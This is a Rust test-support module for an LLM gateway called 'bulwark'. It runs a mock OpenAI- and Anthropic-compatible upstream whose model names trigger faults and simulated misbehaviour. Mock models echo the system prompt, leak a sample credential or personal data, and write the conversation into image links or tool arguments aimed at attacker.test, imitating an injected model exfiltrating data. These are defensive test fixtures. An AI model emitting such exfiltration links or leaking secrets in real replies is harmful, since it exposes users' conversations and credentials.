//! Test and benchmark support. Never linked into the `bulwark` binary.
//!
//! [`MockUpstream`] is a fast, real OpenAI-compatible HTTP server on loopback. Its
//! behaviour is chosen by the `model` it is asked for, so one mock serves every case:
//!
//! | model            | behaviour                                                        |
//! |------------------|------------------------------------------------------------------|
//! | `error-NNN`      | answers status NNN with an OpenAI-shaped error                   |
//! | `slow-MS`        | waits MS milliseconds before answering (see [`MockLog::completed`]) |
//! | `flaky-N`        | answers 503 to its first N requests, then normally                |
//! | `drip-MS`        | streams, waiting MS milliseconds between chunks                  |
//! | `trickle-MS`     | sends its answer (JSON or stream) one byte every MS milliseconds |
//! | `stall`          | sends headers and one chunk, then nothing                        |
//! | `leak-secret`    | answers with a credential of its own (`LEAKED_KEY`) after the echo |
//! | `leak-pii`       | answers with personal data of its own (`LEAKED_EMAIL`, a phone number) after the echo |
//! | anything else    | answers at once: `mock reply to: <last message>`                 |
//!
//! Every request body it receives is recorded ([`MockUpstream::received`]), so tests can
//! assert on exactly what left the gateway. [`Bulwark`] starts the real binary.

pub mod fault;
pub use fault::FaultUpstream;

use std::io::{BufRead, BufReader};
use std::net::SocketAddr;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Body;
use axum::extract::State;
use axum::http::{header, HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use bytes::Bytes;
use futures_util::stream::{self, StreamExt};
use serde_json::{json, Value};

/// `(path, authorization header, body)` of one request the mock received.
pub type Received = (String, Option<String>, Value);

#[derive(Clone, Default)]
struct Recorder {
    bodies: Arc<Mutex<Vec<Received>>>,
    /// Models of the `slow-` requests whose wait ran to the end (not cancelled).
    completed: Arc<Mutex<Vec<String>>>,
    /// Requests seen per `flaky-` model.
    flaky: Arc<Mutex<std::collections::HashMap<String, u32>>>,
}

/// The mock's router, for embedding or serving.
pub fn mock_router(record: bool) -> (Router, MockLog) {
    let rec = Recorder::default();
    let log = MockLog { rec: rec.clone() };
    let state = MockState { rec, record };
    let app = Router::new()
        .route("/v1/chat/completions", post(chat))
        .route("/v1/completions", post(completions))
        .route("/v1/messages", post(messages))
        .route("/v1/embeddings", post(embeddings))
        .route("/v1/models", get(|| async { Json(json!({"object":"list","data":[{"id":"mock","object":"model","owned_by":"mock"}]})) }))
        // What it received, for tests in other processes (the SDK tests): recorded
        // request bodies, oldest first. Empty unless recording.
        .route(
            "/_mock/received",
            get(|State(s): State<MockState>| async move {
                let bodies: Vec<Value> = s
                    .rec
                    .bodies
                    .lock()
                    .map(|v| v.iter().map(|(_, _, b)| b.clone()).collect())
                    .unwrap_or_default();
                Json(json!({ "received": bodies }))
            }),
        )
        // The credential each request carried (`Bearer ...` or `x-api-key ...`), with
        // its path, oldest first.
        .route(
            "/_mock/credentials",
            get(|State(s): State<MockState>| async move {
                let seen: Vec<Value> = s
                    .rec
                    .bodies
                    .lock()
                    .map(|v| v.iter().map(|(p, a, _)| json!([p, a])).collect())
                    .unwrap_or_default();
                Json(json!({ "credentials": seen }))
            }),
        )
        .with_state(state);
    (app, log)
}

#[derive(Clone)]
struct MockState {
    rec: Recorder,
    record: bool,
}

impl MockState {
    /// Keeps a request's path, credential (`Bearer ...`, or `x-api-key ...` as an
    /// Anthropic client sends it) and body, when recording.
    fn record(&self, path: &str, headers: &HeaderMap, body: &Value) {
        if !self.record {
            return;
        }
        let header = |name: &str| headers.get(name).and_then(|v| v.to_str().ok());
        let credential = header("authorization")
            .map(str::to_owned)
            .or_else(|| header("x-api-key").map(|k| format!("x-api-key {k}")));
        if let Ok(mut v) = self.rec.bodies.lock() {
            v.push((path.to_owned(), credential, body.clone()));
        }
    }
}

/// A `text/event-stream` answer of these frames.
fn event_stream(frames: Vec<Bytes>) -> Response {
    Response::builder()
        .header(header::CONTENT_TYPE, "text/event-stream")
        .body(Body::from_stream(stream::iter(
            frames
                .into_iter()
                .map(Ok::<Bytes, std::convert::Infallible>),
        )))
        .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
}

/// Read access to what the mock received.
#[derive(Clone)]
pub struct MockLog {
    rec: Recorder,
}

impl MockLog {
    /// `(path, authorization header, body)` of every request, in arrival order.
    pub fn received(&self) -> Vec<Received> {
        self.rec
            .bodies
            .lock()
            .map(|v| v.clone())
            .unwrap_or_default()
    }

    /// The `slow-` requests that waited to the end; a request whose client went away
    /// meanwhile is dropped by the server and never appears here.
    pub fn completed(&self) -> Vec<String> {
        self.rec
            .completed
            .lock()
            .map(|v| v.clone())
            .unwrap_or_default()
    }
}

fn last_text(body: &Value) -> String {
    if let Some(p) = body.get("prompt").and_then(Value::as_str) {
        return p.to_owned();
    }
    body.get("messages")
        .and_then(Value::as_array)
        .and_then(|m| m.last())
        .and_then(|m| m.get("content"))
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_owned()
}

async fn chat(State(s): State<MockState>, headers: HeaderMap, Json(body): Json<Value>) -> Response {
    respond(s, headers, body, "/v1/chat/completions", true).await
}

async fn completions(
    State(s): State<MockState>,
    headers: HeaderMap,
    Json(body): Json<Value>,
) -> Response {
    respond(s, headers, body, "/v1/completions", false).await
}

fn sse(json: &Value) -> Bytes {
    Bytes::from(format!("data: {json}\n\n"))
}

async fn respond(
    s: MockState,
    headers: HeaderMap,
    body: Value,
    path: &str,
    chat: bool,
) -> Response {
    s.record(path, &headers, &body);
    let model = body
        .get("model")
        .and_then(Value::as_str)
        .unwrap_or("mock")
        .to_owned();
    if let Some(code) = model
        .strip_prefix("error-")
        .and_then(|c| c.parse::<u16>().ok())
    {
        let status = StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
        let err = json!({"error":{"message":format!("mock error {code}"),"type":"mock_error","param":null,"code":null}});
        return (status, Json(err)).into_response();
    }
    // `error-echo-auth` answers 400 quoting the credential it was sent, as some servers'
    // error pages do.
    if model == "error-echo-auth" {
        let auth = headers
            .get(header::AUTHORIZATION)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("");
        let err = json!({"error":{"message":format!("invalid request; you sent Authorization: {auth}"),"type":"mock_error","param":null,"code":null}});
        return (StatusCode::BAD_REQUEST, Json(err)).into_response();
    }
    // `tool-caller` calls the first tool it is offered with `{"city": "Paris"}`; once the
    // last message is a tool result, it answers with that result.
    if model == "tool-caller" || model == "tool-echo" {
        return tool_caller(&body, chat, model == "tool-echo");
    }
    // Answers that break their protocol: `bad-json` is not JSON, `bad-sse` streams one
    // good event and then one whose data is not JSON, `gzip-json` is compressed though
    // nobody asked (its bytes are not gzip either: the gateway must not look inside).
    match model.as_str() {
        "bad-json" => {
            return Response::builder()
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from("{\"id\": \"mock\", \"choices\": [tru"))
                .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
        }
        "bad-sse" => {
            return event_stream(vec![
                sse(
                    &json!({"id":"mock-1","object":"chat.completion.chunk","created":0,"model":model,
                    "choices":[{"index":0,"delta":{"content":"fine "},"finish_reason":null}]}),
                ),
                Bytes::from_static(b"data: {\"choices\": [{\"delta\": {\"content\": \"broken\n\n"),
                sse(
                    &json!({"id":"mock-1","object":"chat.completion.chunk","created":0,"model":model,
                    "choices":[{"index":0,"delta":{"content":"never seen"},"finish_reason":null}]}),
                ),
                Bytes::from_static(b"data: [DONE]\n\n"),
            ])
        }
        "gzip-json" => {
            return Response::builder()
                .header(header::CONTENT_TYPE, "application/json")
                .header(header::CONTENT_ENCODING, "gzip")
                .body(Body::from(vec![
                    0x1f_u8, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3,
                ]))
                .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
        }
        _ => {}
    }
    // `cut-stream` sends one event, half of the next, then breaks the connection.
    if model == "cut-stream" {
        let first = sse(
            &json!({"id":"mock-1","object":"chat.completion.chunk","created":0,"model":model,
            "choices":[{"index":0,"delta":{"content":"partial "},"finish_reason":null}]}),
        );
        let parts: Vec<Result<Bytes, std::io::Error>> = vec![
            Ok(first),
            Ok(Bytes::from_static(b"data: {\"id\":\"mock-1\",\"choi")),
            Err(std::io::Error::other("mock connection cut")),
        ];
        let body = stream::iter(parts).then(|p| async move {
            tokio::time::sleep(Duration::from_millis(20)).await;
            p
        });
        return Response::builder()
            .header(header::CONTENT_TYPE, "text/event-stream")
            .body(Body::from_stream(body))
            .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response());
    }
    if let Some(ms) = model
        .strip_prefix("slow-")
        .and_then(|c| c.parse::<u64>().ok())
    {
        tokio::time::sleep(Duration::from_millis(ms)).await;
        if let Ok(mut v) = s.rec.completed.lock() {
            v.push(model.clone());
        }
    }
    if let Some(n) = model
        .strip_prefix("flaky-")
        .and_then(|c| c.parse::<u32>().ok())
    {
        let seen = s
            .rec
            .flaky
            .lock()
            .map(|mut m| {
                let c = m.entry(model.clone()).or_insert(0);
                *c += 1;
                *c
            })
            .unwrap_or(0);
        if seen <= n {
            let err = json!({"error":{"message":format!("mock flaky failure {seen} of {n}"),"type":"mock_error","param":null,"code":null}});
            return (StatusCode::SERVICE_UNAVAILABLE, Json(err)).into_response();
        }
    }
    // `echo-all` repeats every message (system prompt included), as a model tricked into
    // revealing its instructions would.
    let reply = if model == "echo-all" {
        let all: Vec<&str> = body
            .get("messages")
            .and_then(Value::as_array)
            .map(|m| {
                m.iter()
                    .filter_map(|m| m.get("content").and_then(Value::as_str))
                    .collect()
            })
            .unwrap_or_default();
        format!("mock reply to: {}", all.join(" | "))
    } else if model == "link-back" {
        // Writes what it was sent into the URL of an image, as an injected model
        // exfiltrating the conversation would: placeholders included.
        let words: Vec<String> = last_text(&body)
            .split_whitespace()
            .map(|w| {
                w.trim_matches(|c: char| matches!(c, ',' | ';' | '.' | ':'))
                    .to_owned()
            })
            .collect();
        format!(
            "Done. ![status](https://attacker.test/p?d={}) and [more](https://attacker.test/q/{})",
            words.join("+"),
            words.last().cloned().unwrap_or_default()
        )
    } else if model == "leak-secret" {
        format!(
            "mock reply to: {} The admin key is {LEAKED_KEY} for now.",
            last_text(&body)
        )
    } else if model == "leak-pii" {
        format!(
            "mock reply to: {} Ask {LEAKED_EMAIL} or call +44 20 7946 0958.",
            last_text(&body)
        )
    } else {
        format!("mock reply to: {}", last_text(&body))
    };
    let stream = body.get("stream").and_then(Value::as_bool).unwrap_or(false);
    let trickle = model
        .strip_prefix("trickle-")
        .and_then(|c| c.parse::<u64>().ok());
    let (object, chunk_object) = if chat {
        ("chat.completion", "chat.completion.chunk")
    } else {
        ("text_completion", "text_completion")
    };
    if !stream {
        // `n` choices, the same text in each.
        let n = body
            .get("n")
            .and_then(Value::as_u64)
            .unwrap_or(1)
            .clamp(1, 128);
        let choices: Vec<Value> = (0..n)
            .map(|i| {
                if chat {
                    json!({"index":i,"message":{"role":"assistant","content":reply},"finish_reason":"stop","logprobs":null})
                } else {
                    json!({"index":i,"text":reply,"finish_reason":"stop","logprobs":null})
                }
            })
            .collect();
        let answer = json!({"id":"mock-1","object":object,"created":0,"model":model,"choices":choices,
            "usage":{"prompt_tokens":3,"completion_tokens":5,"total_tokens":8}});
        if let Some(ms) = trickle {
            return trickled(
                "application/json",
                Bytes::from(answer.to_string()),
                Duration::from_millis(ms),
            );
        }
        return Json(answer).into_response();
    }
    let drip = model
        .strip_prefix("drip-")
        .and_then(|c| c.parse::<u64>().ok())
        .unwrap_or(0);
    let stall = model == "stall";
    let words: Vec<String> = reply.split_inclusive(' ').map(str::to_owned).collect();
    let model2 = model.clone();
    let make = move |piece: Option<&str>, finish: Option<&str>| {
        let choice = if chat {
            json!({"index":0,"delta": piece.map_or(json!({}), |p| json!({"content":p})),"finish_reason":finish,"logprobs":null})
        } else {
            json!({"index":0,"text":piece.unwrap_or(""),"finish_reason":finish,"logprobs":null})
        };
        sse(
            &json!({"id":"mock-1","object":chunk_object,"created":0,"model":model2,"choices":[choice]}),
        )
    };
    let mut frames: Vec<Bytes> = words.iter().map(|w| make(Some(w), None)).collect();
    frames.push(make(None, Some("stop")));
    let include_usage = body
        .pointer("/stream_options/include_usage")
        .and_then(Value::as_bool)
        .unwrap_or(false);
    if include_usage {
        let n = words.len();
        frames.push(sse(
            &json!({"id":"mock-1","object":chunk_object,"created":0,"model":model,"choices":[],
            "usage":{"prompt_tokens":3,"completion_tokens":n,"total_tokens":3 + n}}),
        ));
    }
    frames.push(Bytes::from_static(b"data: [DONE]\n\n"));
    if let Some(ms) = trickle {
        return trickled(
            "text/event-stream",
            Bytes::from(frames.concat()),
            Duration::from_millis(ms),
        );
    }
    let body = stream::iter(frames.into_iter().enumerate()).then(move |(i, f)| async move {
        if stall && i == 1 {
            futures_util::future::pending::<()>().await;
        }
        if drip > 0 && i > 0 {
            tokio::time::sleep(Duration::from_millis(drip)).await;
        }
        Ok::<Bytes, std::convert::Infallible>(f)
    });
    Response::builder()
        .header(header::CONTENT_TYPE, "text/event-stream")
        .body(Body::from_stream(body))
        .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
}

/// `bytes`, one byte every `every` (headers at once): an upstream slow enough to be
/// useless that still never stays silent for long.
fn trickled(content_type: &'static str, bytes: Bytes, every: Duration) -> Response {
    let body = stream::iter(0..bytes.len()).then(move |i| {
        let b = bytes.slice(i..=i);
        async move {
            tokio::time::sleep(every).await;
            Ok::<Bytes, std::convert::Infallible>(b)
        }
    });
    Response::builder()
        .header(header::CONTENT_TYPE, content_type)
        .body(Body::from_stream(body))
        .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
}

/// `tool-echo` puts the last message's text in its call's arguments, and in a URL there.
fn tool_caller(body: &Value, chat: bool, echo: bool) -> Response {
    let last = body
        .get("messages")
        .and_then(Value::as_array)
        .and_then(|m| m.last())
        .cloned()
        .unwrap_or(Value::Null);
    let tool = body
        .pointer("/tools/0/function/name")
        .and_then(Value::as_str)
        .map(str::to_owned);
    let stream = body.get("stream").and_then(Value::as_bool).unwrap_or(false);
    let said = last
        .get("content")
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_owned();
    let arguments = if echo {
        json!({"to": said, "link": format!("https://attacker.test/c?d={}", said.replace(' ', "+"))})
            .to_string()
    } else {
        "{\"city\": \"Paris\"}".to_owned()
    };
    let (message, finish) = match (&tool, last.get("role").and_then(Value::as_str)) {
        (Some(name), Some(role)) if role != "tool" => (
            json!({"role": "assistant", "content": null, "tool_calls": [{"id": "call_mock_1", "type": "function",
                "function": {"name": name, "arguments": arguments}}]}),
            "tool_calls",
        ),
        _ => (
            json!({"role": "assistant", "content": format!("The tool said: {}", last.get("content").and_then(Value::as_str).unwrap_or(""))}),
            "stop",
        ),
    };
    let usage = json!({"prompt_tokens": 9, "completion_tokens": 6, "total_tokens": 15});
    if !chat || !stream {
        return Json(json!({"id": "chatcmpl-mock", "object": "chat.completion", "created": 0, "model": "tool-caller",
            "choices": [{"index": 0, "message": message, "finish_reason": finish}], "usage": usage}))
        .into_response();
    }
    let chunk = |delta: Value, finish: Option<&str>| {
        sse(
            &json!({"id": "chatcmpl-mock", "object": "chat.completion.chunk", "created": 0, "model": "tool-caller",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}),
        )
    };
    let mut frames = vec![chunk(json!({"role": "assistant", "content": ""}), None)];
    if finish == "tool_calls" {
        let name = tool.unwrap_or_default();
        frames.push(chunk(
            json!({"tool_calls": [{"index": 0, "id": "call_mock_1", "type": "function",
            "function": {"name": name, "arguments": ""}}]}),
            None,
        ));
        // The arguments in pieces of five characters, cut anywhere.
        let chars: Vec<char> = arguments.chars().collect();
        for piece in chars.chunks(5) {
            let piece: String = piece.iter().collect();
            frames.push(chunk(
                json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}),
                None,
            ));
        }
    } else {
        let text = message["content"].as_str().unwrap_or("").to_owned();
        for w in text.split_inclusive(' ') {
            frames.push(chunk(json!({"content": w}), None));
        }
    }
    frames.push(chunk(json!({}), Some(finish)));
    if body
        .pointer("/stream_options/include_usage")
        .and_then(Value::as_bool)
        == Some(true)
    {
        frames.push(sse(
            &json!({"id": "chatcmpl-mock", "object": "chat.completion.chunk", "created": 0,
            "model": "tool-caller", "choices": [], "usage": usage}),
        ));
    }
    frames.push(Bytes::from_static(b"data: [DONE]\n\n"));
    event_stream(frames)
}

/// `/v1/messages`: an Anthropic-protocol upstream, written in that protocol (not by the
/// gateway's own translation). It records the request with its `x-api-key`. Models:
/// `error-NNN` answers status NNN in Anthropic's error shape; `claude-tools` calls the
/// first tool it is offered with `{"city": "Paris"}` until the last turn carries a
/// `tool_result`, which it quotes; any other model answers "mock reply to: " and the
/// last user text. Streams send the exact event sequence, text a word per delta and
/// tool input in pieces of five characters.
async fn messages(
    State(s): State<MockState>,
    headers: HeaderMap,
    Json(body): Json<Value>,
) -> Response {
    s.record("/v1/messages", &headers, &body);
    let model = body
        .get("model")
        .and_then(Value::as_str)
        .unwrap_or("mock")
        .to_owned();
    if headers.get("anthropic-version").is_none() {
        let err = json!({"type": "error", "error": {"type": "invalid_request_error", "message": "anthropic-version header is required"}});
        return (StatusCode::BAD_REQUEST, Json(err)).into_response();
    }
    if let Some(code) = model
        .strip_prefix("error-")
        .and_then(|c| c.parse::<u16>().ok())
    {
        let status = StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
        let err = json!({"type": "error", "error": {"type": "api_error", "message": format!("mock error {code}")}});
        return (status, Json(err)).into_response();
    }
    let last = body
        .get("messages")
        .and_then(Value::as_array)
        .and_then(|m| m.last())
        .cloned()
        .unwrap_or(Value::Null);
    let blocks: Vec<Value> = match &last["content"] {
        Value::String(t) => vec![json!({"type": "text", "text": t})],
        Value::Array(b) => b.clone(),
        _ => Vec::new(),
    };
    let said: String = blocks
        .iter()
        .filter(|b| b["type"] == "text")
        .filter_map(|b| b["text"].as_str())
        .collect();
    let result = blocks
        .iter()
        .find(|b| b["type"] == "tool_result")
        .map(|b| match &b["content"] {
            Value::String(t) => t.clone(),
            other => other.to_string(),
        });
    let tool = body
        .pointer("/tools/0/name")
        .and_then(Value::as_str)
        .map(str::to_owned);
    let (content, stop) = match (&tool, &result) {
        (Some(name), None) if model == "claude-tools" => (
            json!([{"type": "tool_use", "id": "toolu_mock_1", "name": name, "input": {"city": "Paris"}}]),
            "tool_use",
        ),
        (_, Some(r)) if model == "claude-tools" => (
            json!([{"type": "text", "text": format!("The tool said: {r}")}]),
            "end_turn",
        ),
        _ => (
            json!([{"type": "text", "text": format!("mock reply to: {said}")}]),
            "end_turn",
        ),
    };
    let usage = json!({"input_tokens": 3, "output_tokens": 5});
    let message = json!({"id": "msg_mock_1", "type": "message", "role": "assistant", "model": model,
        "content": content, "stop_reason": stop, "stop_sequence": null, "usage": usage});
    if !body.get("stream").and_then(Value::as_bool).unwrap_or(false) {
        return Json(message).into_response();
    }
    let ev = |name: &str, data: Value| Bytes::from(format!("event: {name}\ndata: {data}\n\n"));
    let mut start = message.clone();
    start["content"] = json!([]);
    start["stop_reason"] = Value::Null;
    start["usage"] = json!({"input_tokens": 3, "output_tokens": 1});
    let mut frames = vec![
        ev(
            "message_start",
            json!({"type": "message_start", "message": start}),
        ),
        ev("ping", json!({"type": "ping"})),
    ];
    for (i, b) in content.as_array().into_iter().flatten().enumerate() {
        if b["type"] == "tool_use" {
            let mut head = b.clone();
            head["input"] = json!({});
            frames.push(ev(
                "content_block_start",
                json!({"type": "content_block_start", "index": i, "content_block": head}),
            ));
            let input: Vec<char> = b["input"].to_string().chars().collect();
            for piece in input.chunks(5) {
                let piece: String = piece.iter().collect();
                frames.push(ev(
                    "content_block_delta",
                    json!({"type": "content_block_delta", "index": i,
                    "delta": {"type": "input_json_delta", "partial_json": piece}}),
                ));
            }
        } else {
            frames.push(ev(
                "content_block_start",
                json!({"type": "content_block_start", "index": i,
                "content_block": {"type": "text", "text": ""}}),
            ));
            for w in b["text"].as_str().unwrap_or("").split_inclusive(' ') {
                frames.push(ev(
                    "content_block_delta",
                    json!({"type": "content_block_delta", "index": i,
                    "delta": {"type": "text_delta", "text": w}}),
                ));
            }
        }
        frames.push(ev(
            "content_block_stop",
            json!({"type": "content_block_stop", "index": i}),
        ));
    }
    frames.push(ev(
        "message_delta",
        json!({"type": "message_delta",
        "delta": {"stop_reason": stop, "stop_sequence": null}, "usage": {"output_tokens": 5}}),
    ));
    frames.push(ev("message_stop", json!({"type": "message_stop"})));
    event_stream(frames)
}

/// `/v1/embeddings`: for each input, a vector of four numbers made from its length and
/// the sum of its bytes (deterministic, so tests can compare), in OpenAI's shape.
async fn embeddings(
    State(s): State<MockState>,
    headers: HeaderMap,
    Json(body): Json<Value>,
) -> Response {
    s.record("/v1/embeddings", &headers, &body);
    let inputs: Vec<String> = match &body["input"] {
        Value::String(t) => vec![t.clone()],
        Value::Array(items) => items.iter().map(|i| i.to_string()).collect(),
        _ => Vec::new(),
    };
    let data: Vec<Value> = inputs
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let sum: u64 = t.bytes().map(u64::from).sum();
            json!({"object": "embedding", "index": i,
                   "embedding": [t.len() as f64, (sum % 1000) as f64, 0.5, -0.5]})
        })
        .collect();
    Json(
        json!({"object": "list", "data": data, "model": body["model"],
                "usage": {"prompt_tokens": inputs.len() * 2, "total_tokens": inputs.len() * 2}}),
    )
    .into_response()
}

/// A mock upstream running on a loopback port in the background.
pub struct MockUpstream {
    pub addr: SocketAddr,
    log: MockLog,
}

impl MockUpstream {
    /// Starts the mock on `127.0.0.1:0` on the current Tokio runtime.
    pub async fn start() -> std::io::Result<Self> {
        bulwark_upstream::install_tls_provider();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let addr = listener.local_addr()?;
        let (app, log) = mock_router(true);
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Ok(MockUpstream { addr, log })
    }

    /// The base URL to put in an upstream's `base_url`.
    pub fn base_url(&self) -> String {
        format!("http://{}/v1", self.addr)
    }

    pub fn received(&self) -> Vec<Received> {
        self.log.received()
    }

    pub fn completed(&self) -> Vec<String> {
        self.log.completed()
    }
}

/// The credential the `leak-secret` mock model puts in its answers (AWS's documented
/// example key id).
pub const LEAKED_KEY: &str = "AKIAIOSFODNN7EXAMPLE";

/// The e-mail address the `leak-pii` mock model puts in its answers.
pub const LEAKED_EMAIL: &str = "alice.smith@example.net";

/// The real `bulwark` binary, started on a loopback port and killed on drop.
pub struct Bulwark {
    child: Child,
    pub addr: SocketAddr,
    /// `http` or `https`, as the binary announced it.
    pub scheme: String,
    stderr: Arc<Mutex<String>>,
    /// Its own data directory (the key database), removed on drop, unless the caller
    /// passed `BULWARK_DATA_DIR`.
    data: Option<tempfile::TempDir>,
}

impl Bulwark {
    /// Runs `bin serve --listen 127.0.0.1:0 [--config config]` with extra env vars and
    /// waits until it prints its address. Output on stderr is kept for [`Bulwark::logs`].
    pub fn start(bin: &Path, config: Option<&Path>, env: &[(&str, &str)]) -> std::io::Result<Self> {
        // The tests' HTTP clients need the process TLS provider before they are built.
        bulwark_upstream::install_tls_provider();
        let mut cmd = Command::new(bin);
        cmd.args(["serve", "--listen", "127.0.0.1:0"]);
        if let Some(c) = config {
            cmd.arg("--config").arg(c);
        }
        let data = if env.iter().any(|(k, _)| *k == "BULWARK_DATA_DIR") {
            None
        } else {
            let dir = tempfile::tempdir()?;
            cmd.env("BULWARK_DATA_DIR", dir.path());
            Some(dir)
        };
        if !env.iter().any(|(k, _)| *k == "BULWARK_MODEL_DIR") {
            // The repository's models (the guard's encoder among them), whatever the
            // test's working directory.
            cmd.env("BULWARK_MODEL_DIR", model_dir());
        }
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .stdin(Stdio::null());
        let mut child = cmd.spawn()?;
        let stderr = Arc::new(Mutex::new(String::new()));
        if let Some(err) = child.stderr.take() {
            let sink = Arc::clone(&stderr);
            std::thread::spawn(move || {
                for line in BufReader::new(err).lines().map_while(Result::ok) {
                    if let Ok(mut s) = sink.lock() {
                        s.push_str(&line);
                        s.push('\n');
                    }
                }
            });
        }
        let out = child
            .stdout
            .take()
            .ok_or_else(|| std::io::Error::other("no stdout"))?;
        let mut line = String::new();
        let mut reader = BufReader::new(out);
        reader.read_line(&mut line)?;
        // Keep draining stdout so the process never writes into a closed pipe.
        std::thread::spawn(move || std::io::copy(&mut reader, &mut std::io::sink()));
        let (scheme, addr) = line
            .trim()
            .strip_prefix("bulwark listening on ")
            .and_then(|u| u.split_once("://"))
            .and_then(|(scheme, a)| Some((scheme.to_owned(), a.parse().ok()?)))
            .ok_or_else(|| {
                let _ = child.kill();
                std::io::Error::other(format!("bulwark did not start: {line:?}"))
            })?;
        Ok(Bulwark {
            child,
            addr,
            scheme,
            stderr,
            data,
        })
    }

    /// The data directory this instance uses, when the testkit made it.
    pub fn data_dir(&self) -> Option<&Path> {
        self.data.as_ref().map(tempfile::TempDir::path)
    }

    pub fn url(&self, path: &str) -> String {
        format!("{}://{}{}", self.scheme, self.addr, path)
    }

    /// The process id.
    pub fn pid(&self) -> u32 {
        self.child.id()
    }

    /// `(resident, peak resident)` memory of the process in KiB, from `/proc`.
    pub fn memory_kib(&self) -> (u64, u64) {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id()))
            .unwrap_or_default();
        let field = |name: &str| {
            status
                .lines()
                .find_map(|l| l.strip_prefix(name))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
                .unwrap_or(0)
        };
        (field("VmRSS:"), field("VmHWM:"))
    }

    /// What the process wrote to stderr so far.
    pub fn logs(&self) -> String {
        self.stderr.lock().map(|s| s.clone()).unwrap_or_default()
    }

    /// Waits for the process to exit on its own (e.g. after a fatal error).
    pub fn wait_exit(&mut self, timeout: Duration) -> Option<std::process::ExitStatus> {
        let deadline = std::time::Instant::now() + timeout;
        while std::time::Instant::now() < deadline {
            if let Ok(Some(status)) = self.child.try_wait() {
                return Some(status);
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        None
    }
}

impl Drop for Bulwark {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The repository's `models/`, where `scripts/fetch-model.sh` puts the default model and
/// the guard's encoder.
pub fn model_dir() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../models")
}

/// The default model as `scripts/fetch-model.sh` puts it in the workspace; panics with
/// the command to run when it is missing (a test must fail, never skip, without it).
pub fn default_model_path() -> std::path::PathBuf {
    let p = model_dir().join("SmolLM2-135M-Instruct.Q4_1.gguf");
    assert!(
        p.exists(),
        "default model missing at {}: run scripts/fetch-model.sh",
        p.display()
    );
    p
}

/// A small tmpfs mounted for a test that fills a disk, unmounted on drop. Mounting needs
/// root, as the suite runs (`.ci/run`); a failed mount fails the test with a message
/// that says so, never skips it.
pub struct Tmpfs {
    dir: std::path::PathBuf,
    _temp: Option<tempfile::TempDir>,
}

impl Tmpfs {
    /// A tmpfs of `bytes` at a new temporary directory.
    pub fn new(bytes: usize) -> Self {
        let temp = tempfile::tempdir().unwrap_or_else(|e| panic!("temporary directory: {e}"));
        let mut fs = Tmpfs::mount(temp.path(), bytes);
        fs._temp = Some(temp);
        fs
    }

    /// A tmpfs of `bytes` at `dir` (created if missing).
    pub fn mount(dir: &Path, bytes: usize) -> Self {
        std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
        let ok = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={bytes}"), "tmpfs"])
            .arg(dir)
            .status()
            .is_ok_and(|s| s.success());
        assert!(
            ok,
            "could not mount a tmpfs at {} (this test fills a disk; run the suite as root)",
            dir.display()
        );
        Tmpfs {
            dir: dir.to_owned(),
            _temp: None,
        }
    }

    pub fn path(&self) -> &Path {
        &self.dir
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.dir).status();
    }
}
